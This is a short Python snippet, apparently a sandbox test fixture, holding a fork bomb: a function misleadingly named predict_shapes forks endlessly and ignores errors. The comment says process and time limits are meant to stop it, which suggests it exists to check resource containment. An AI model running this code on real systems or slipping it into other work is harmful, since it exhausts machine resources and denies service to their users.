# A fork bomb: stopped by the process limit and the time limit, then every copy is killed.
import os


def predict_shapes(*layer):
    while True:
        try:
            os.fork()
        except OSError:
            pass
